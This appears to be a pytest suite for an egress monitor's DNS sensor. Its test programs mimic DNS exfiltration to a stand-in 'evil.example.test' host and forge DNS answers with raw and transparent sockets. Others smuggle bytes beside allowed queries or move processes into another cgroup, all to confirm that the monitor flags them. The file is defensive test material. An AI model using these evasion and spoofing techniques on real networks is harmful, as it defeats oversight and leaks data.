"""Ways to ask unseen, or to be believed: each is a violation or an incomplete run."""

import os
import subprocess
import sys
from collections.abc import Callable, Generator
from contextlib import contextmanager
from pathlib import Path

import pytest

from egressmon.sensor.scope import find_root
from support.lab import CLIENT4, CROWD, OTHER4, SERVER4, Lab
from support.watching import Watched

Watch = Callable[..., Watched]
PYTHON = sys.executable
NOWHERE = "10.213.7.77"  # no machine has it

POLICY = """
version = 1
enforce = "fail"
[[allow]]
host = "api.example.test"
ports = [80]
"""
ANY_NAME = POLICY + '[dns]\nqueries = "any"\n'


def with_resolver(address: str) -> str:
    return POLICY + f'[dns]\nresolvers = ["{address}"]\n'


# What the programs below begin with: questions and answers, written by hand.
PRELUDE = f"""
import socket, struct, sys, time
SERVER, OTHER, CLIENT = "{SERVER4}", "{OTHER4}", "{CLIENT4}"
NOWHERE = "{NOWHERE}"
def header(number, bits, *counts):
    return struct.pack("!HHHHHH", number, bits, *counts)
def question(name, number=7, address=None):
    labels = b"".join(bytes([len(one)]) + one for one in name.encode().split(b"."))
    bits, answers = (0x8180, 1) if address else (0x0100, 0)
    data = header(number, bits, 1, answers, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
    if address:
        record = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4)
        data += record + socket.inet_aton(address)
    return data
def framed(data):
    return struct.pack("!H", len(data)) + data
def udp(*options):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(20)
    for option in options:
        made.setsockopt(*option)
    return made
def reach(address):
    with socket.create_connection((address, 80), 20) as made:
        made.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
"""


@pytest.fixture
def elsewhere() -> Generator[Path]:
    """A cgroup beside the scope's."""
    folder = find_root() / f"egm-dns-{os.getpid()}"
    folder.mkdir()
    yield folder
    folder.rmdir()


def run_program(
    watched: Watch, code: str, policy: str = POLICY, **how: object
) -> Watched:
    return watched(PYTHON, "-c", PRELUDE + code, policy=policy, **how)


def assert_not_believed(run: Watched) -> None:
    """Assert that OTHER4 has no name, although an answer gave it one."""
    answered = [one for one in run.of("dns") if one["answers"]]
    assert answered
    assert not any(
        OTHER4 in "".join(one["answers"]) and one["trusted"] for one in answered
    )
    reached = [one for one in run.of("connection") if one["dst"]["ip"] == OTHER4]
    assert [one["verdict"] for one in reached] == ["violation"]
    assert run.status == 120


@contextmanager
def outside(network: Lab, *words: str, ready: str) -> Generator[None]:
    """Run a server in the client's network namespace, and outside the scope."""
    process = subprocess.Popen(
        ["nsenter", f"--net=/run/netns/{network.client}", *words],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    assert process.stdout is not None
    try:
        assert any(ready in line for line in process.stdout)
        yield
    finally:
        process.terminate()
        process.communicate()


URGENT = """
stream = socket.create_connection((SERVER, 53))
stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
if "urgent" in sys.argv:
    stream.send(b"\\xff", socket.MSG_OOB)
for name in ("part-1.evil.example.test", "part-2.evil.example.test"):
    stream.sendall(framed(question(name)))
# Closed by RST: no answer reaches the socket.
stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
stream.close()
"""


# One urgent byte in front: the probes see it in the stream, and the server, which
# reads without it, sees questions where a message of 65,314 bytes seemed to begin.
def test_questions_behind_an_urgent_byte_are_a_violation(watched: Watch) -> None:
    run = watched(PYTHON, "-c", PRELUDE + URGENT, "urgent", policy=ANY_NAME)

    (record,) = [one for one in run.of("dns") if one["unread_bytes"]]
    assert record["verdict"] == "violation"
    assert record["unread_bytes"] == 1 + 2 * (2 + 42)
    assert "urgent" in record["reason"]
    assert record["process"]["argv"][-1] == "urgent"
    assert run.status == 120


def test_the_same_questions_without_it_are_look_ups(watched: Watch) -> None:
    run = watched(PYTHON, "-c", PRELUDE + URGENT, "plain", policy=ANY_NAME)

    assert [one["name"] for one in run.of("dns")] == [
        "part-1.evil.example.test",
        "part-2.evil.example.test",
    ]
    assert run.end["verdict"] == "clean"


@pytest.mark.parametrize(
    ("sent", "unread"),
    [
        (b"\xff\xf0secret", 8),
        (b"GET /secret HTTP/1.1\r\n\r\n", 24),
        (b"\0", 1),
    ],
    ids=["no end", "HTTP", "half a length"],
)
def test_bytes_on_port_53_that_are_no_message_are_a_violation(
    watched: Watch, sent: bytes, unread: int
) -> None:
    code = f"""
stream = socket.create_connection((SERVER, 53))
stream.sendall({sent!r})
stream.close()
"""

    run = run_program(watched, code, ANY_NAME)

    (record,) = run.of("dns")
    assert (record["protocol"], record["resolver"]) == ("tcp", SERVER4)
    assert record["unread_bytes"] == unread
    assert record["verdict"] == "violation"
    assert run.status == 120


# Each of the other streams makes the reader remember one more.
PRESSED = """
sink = socket.create_server(("127.0.0.1", 53), backlog=512)
stream = socket.create_connection((SERVER, 53))
stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
whole = framed(question("secret.evil.example.test"))
stream.sendall(whole[:1])
for _ in range(4200):
    with socket.create_connection(("127.0.0.1", 53)) as other:
        other.sendall(b"\\0")
    sink.accept()[0].close()
stream.sendall(whole[1:])
stream.close()
"""


def test_a_stream_that_others_push_out_is_told(watched: Watch) -> None:
    policy = ANY_NAME + '[[allow]]\ncidr = "127.0.0.1"\nports = [53]\n'

    run = run_program(watched, PRESSED, policy)

    told = list(run.of("dns", resolver=SERVER4))
    assert [one["verdict"] for one in told] == ["violation"]
    assert run.end["losses"]["dns_broken"] > 0
    assert any("dns_broken" in one for one in run.end["incomplete_reasons"])
    assert run.status == 120


BIG = """
import threading
server = socket.create_server(("::1", 53), family=socket.AF_INET6)
def drain():
    made, _ = server.accept()
    while made.recv(1 << 20):
        pass
threading.Thread(target=drain).start()
with socket.create_connection(("::1", 53)) as stream:
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    stream.sendall(b"\\xff" * (1 << 20))
"""


# IPv6 packets beyond 64 KiB (Linux 5.19): what no chunk holds is counted.
def test_packets_beyond_what_is_copied_make_the_run_incomplete(
    network: Lab, watched: Watch
) -> None:
    device = ["ip", "-n", network.client, "link", "set", "lo"]
    size = ["gso_max_size", "400000", "gro_max_size", "400000"]
    if subprocess.run([*device, *size], check=False, capture_output=True).returncode:
        pytest.skip("this kernel has no packets beyond 64 KiB")
    try:
        run = run_program(watched, BIG, with_resolver("::1"))
    finally:
        size[1::2] = ["65536", "65536"]
        subprocess.run([*device, *size], check=True)

    assert run.end["losses"]["lost_dns"] > 0
    assert run.end["complete"] is False


FORGED = """
def forged():
    return question("api.example.test", 7, OTHER)
"""

# A plain UDP socket with the resolver's address; the question leaves by the loopback
# device, so that the resolver never gets it.
TRANSPARENT = (
    FORGED
    + """
asks = udp((socket.SOL_SOCKET, 25, b"lo"))
asks.bind(("0.0.0.0", 0))
answers = udp((socket.IPPROTO_IP, 19, 1))
answers.bind((SERVER, 53))
asks.sendto(question("api.example.test"), (SERVER, 53))
answers.sendto(forged(), asks.getsockname())
assert asks.recv(512)
reach(OTHER)
"""
)

RAW = (
    FORGED
    + """
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def inet(offset, more, data):
    place = offset // 8 | (0x2000 if more else 0)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 99, place, 64, 17, 0,
                       socket.inet_aton(NOWHERE), socket.inet_aton(CLIENT))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + data
asks = udp()
asks.bind((CLIENT, 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
data = forged()
data = struct.pack("!HHHH", 53, asks.getsockname()[1], 8 + len(data), 0) + data
asks.sendto(question("api.example.test"), (NOWHERE, 53))
if "parts" in sys.argv:
    raw.sendto(inet(0, True, data[:16]), (CLIENT, 0))
    raw.sendto(inet(16, False, data[16:]), (CLIENT, 0))
else:
    raw.sendto(inet(0, False, data), (CLIENT, 0))
assert asks.recv(512)[-4:] == socket.inet_aton(OTHER)
reach(OTHER)
"""
)


def test_an_answer_by_a_transparent_socket_names_nothing(watched: Watch) -> None:
    run = run_program(watched, TRANSPARENT)

    assert_not_believed(run)
    (forged,) = run.of("dns")
    assert "the scope itself" in forged["reason"]


@pytest.mark.parametrize("how", ["whole", "parts"])
def test_an_answer_by_a_raw_socket_names_nothing(watched: Watch, how: str) -> None:
    policy = with_resolver(NOWHERE)

    run = watched(PYTHON, "-c", PRELUDE + RAW, how, policy=policy)

    assert_not_believed(run)


# The resolver is an address of this machine, and nobody listens there at first.
LATE = (
    FORGED
    + """
asks = udp()
asks.bind(("127.0.0.1", 0))
asks.sendto(question("api.example.test"), ("127.0.0.1", 53))
answers = udp()
answers.bind(("127.0.0.1", 53))
answers.sendto(forged(), asks.getsockname())
assert asks.recv(512)
reach(OTHER)
"""
)


def test_an_answer_by_a_server_of_the_scope_names_nothing(watched: Watch) -> None:
    assert_not_believed(run_program(watched, LATE, with_resolver("127.0.0.1")))


# The answer comes from a socket that was made outside the scope's cgroup.
ELSEWHERE = """
with open(sys.argv[1] + "/cgroup.procs", "w") as file:
    file.write("0")
"""


def test_an_answer_from_another_cgroup_names_nothing(
    watched: Watch, elsewhere: Path
) -> None:
    code = PRELUDE + LATE.replace("answers = udp", ELSEWHERE + "answers = udp")

    run = watched(PYTHON, "-c", code, str(elsewhere), policy=with_resolver("127.0.0.1"))

    assert_not_believed(run)


def test_questions_beside_a_urgent_byte_in_another_cgroup_are_a_violation(
    watched: Watch, elsewhere: Path
) -> None:
    code = PRELUDE + ELSEWHERE + URGENT

    run = watched(PYTHON, "-c", code, str(elsewhere), "urgent", policy=ANY_NAME)

    (record,) = [one for one in run.of("dns") if one["unread_bytes"]]
    assert "urgent" in record["reason"]
    assert run.status == 120


LATE_STREAM = (
    FORGED
    + """
server = socket.create_server(("127.0.0.1", 53))
asks = socket.create_connection(("127.0.0.1", 53), 20)
asks.sendall(framed(question("api.example.test")))
made, _ = server.accept()
made.recv(512)
server.close()
made.sendall(framed(forged()))
assert asks.recv(512)
reach(OTHER)
"""
)


def test_an_answer_by_a_stream_of_the_scope_names_nothing(watched: Watch) -> None:
    assert_not_believed(run_program(watched, LATE_STREAM, with_resolver("127.0.0.1")))


# A connected socket makes no further flow: the second answer must be judged by itself.
SHARED = (
    FORGED
    + """
asks = udp()
asks.connect(("127.0.0.1", 53))
asks.send(question("api.example.test", 6))
assert asks.recv(512)[-4:] == socket.inet_aton(SERVER)
answers = udp((socket.SOL_SOCKET, socket.SO_REUSEADDR, 1))
answers.bind(("127.0.0.1", 53))
asks.send(question("api.example.test", 7))
answers.sendto(forged(), asks.getsockname())
while asks.recv(512)[-4:] != socket.inet_aton(OTHER):
    pass
reach(OTHER)
"""
)


def test_a_second_socket_at_the_resolvers_address_is_not_the_resolver(
    network: Lab, watched: Watch
) -> None:
    server = ["dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--user=root"]
    server += ["--no-resolv", "--no-hosts", "--pid-file=", "--log-facility=-"]
    server += ["--bind-interfaces", "--listen-address=127.0.0.1"]
    server += [f"--host-record=api.example.test,{SERVER4}"]

    with outside(network, *server, ready="started"):
        run = run_program(watched, SHARED, with_resolver("127.0.0.1"))

    first = [one for one in run.of("dns") if SERVER4 in "".join(one["answers"])]
    assert first[0]["trusted"] is True
    assert_not_believed(run)


def test_a_server_of_the_scope_elsewhere_casts_no_doubt_on_the_resolver(
    watched: Watch,
) -> None:
    code = """
server = udp()
server.bind(("0.0.0.0", 5353))
other = udp()
other.bind(("127.0.0.9", 53))
asks = udp()
asks.bind(("127.0.0.1", 0))
other.sendto(question("api.example.test", 7, OTHER), asks.getsockname())
other.close()
everywhere = udp()
everywhere.bind(("0.0.0.0", 53))
asks = udp()
asks.sendto(question("api.example.test"), (SERVER, 53))
assert asks.recv(512)
reach(SERVER)
"""

    run = run_program(watched, code)

    (record,) = list(run.of("dns", resolver=SERVER4))
    assert record["trusted"] is True
    (reached,) = [one for one in run.of("connection") if one["dst"]["port"] == 80]
    assert reached["dst"]["names"][0]["source"] == "dns"


RAW_QUESTION = """
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
data = question("api.example.test")
raw.sendto(struct.pack("!HHHH", 4000, 53, 8 + len(data), 0) + data, (SERVER, 0))
"""


def test_a_question_by_a_raw_socket_is_a_violation(watched: Watch) -> None:
    run = run_program(watched, RAW_QUESTION)

    (record,) = [one for one in run.of("dns") if "raw socket" in one["reason"]]
    assert record["name"] == "api.example.test"
    assert record["verdict"] == "violation"
    assert run.status == 120


@pytest.mark.parametrize(
    ("data", "why"),
    [
        ('question("api.example.test") + b"secret"', "6 bytes behind"),
        (
            'header(7, 0x2900, *[1, 0, 0, 0]) + question("api.example.test")[12:]',
            "UPDATE",
        ),
        (
            (
                'header(7, 0x0100, 1, 0, 0, 1) + question("api.example.test")[12:]'
                ' + b"\\0\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\7\\6secret"'
            ),
            "not OPT",
        ),
        (
            (
                'header(7, 0x0100, 1, 0, 0, 1) + question("api.example.test")[12:]'
                ' + b"\\0\\0\\x29\\4\\0\\0\\0\\0\\0\\0\\x0a\\xfd\\xe9\\0\\6secret"'
            ),
            "65001",
        ),
    ],
    ids=["bytes behind", "an update", "a record", "an option"],
)
def test_data_beside_an_allowed_question_are_a_violation(
    watched: Watch, data: str, why: str
) -> None:
    run = run_program(watched, f"udp().sendto({data}, (SERVER, 53))")

    (record,) = run.of("dns")
    assert record["name"] == "api.example.test"
    assert record["verdict"] == "violation"
    assert why in record["reason"]
    assert run.status == 120


def test_the_same_question_in_other_letters_is_another_look_up(watched: Watch) -> None:
    code = """
asks = udp()
for name in ("api.example.test", "api.example.test", "aPi.eXample.tEst"):
    asks.sendto(question(name), (NOWHERE, 53))
"""

    run = run_program(watched, code, with_resolver(NOWHERE))

    assert [(one["name"], one["asked"]) for one in run.of("dns")] == [
        ("api.example.test", None),
        ("api.example.test", "aPi.eXample.tEst"),
    ]


def test_a_protocol_that_is_not_read_is_a_violation_on_port_53(watched: Watch) -> None:
    code = """
try:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
except OSError:
    sys.exit(77)  # removed from Linux 7.1
made.sendto(b"secret", (SERVER, 53))
"""

    run = run_program(watched, code, ANY_NAME)

    if run.status == 77:
        pytest.skip("this kernel has no UDP-Lite")
    (reached,) = run.of("connection")
    assert reached["protocol"] == "udplite"
    assert reached["verdict"] == "violation"
    assert run.status == 120


# An answer has room for 4,000 addresses: learning all would cost more than asking.
def test_of_an_answer_64_addresses_are_believed_and_the_rest_is_a_doubt(
    watched: Watch,
) -> None:
    policy = POLICY.replace("api.", "crowd.")

    run = watched("dig", "+tcp", "+short", "crowd.example.test", policy=policy)

    (asked,) = run.of("dns", name="crowd.example.test")
    assert (asked["answer_count"], len(asked["answers"])) == (CROWD, 64)
    assert asked["verdict"] == "allowed"
    assert run.end["losses"]["dns_left_out"] == CROWD - 64
    assert run.end["verdict"] == "incomplete"
    assert "(dns_left_out)" in run.stderr
    assert run.status == 121


def test_an_answer_that_is_not_believed_may_have_any_number(watched: Watch) -> None:
    policy = with_resolver(OTHER4).replace("api.", "crowd.")

    run = watched("dig", "+tcp", "+short", "crowd.example.test", policy=policy)

    (asked,) = run.of("dns", name="crowd.example.test")
    assert asked["trusted"] is False
    assert run.end["losses"]["dns_left_out"] == 0
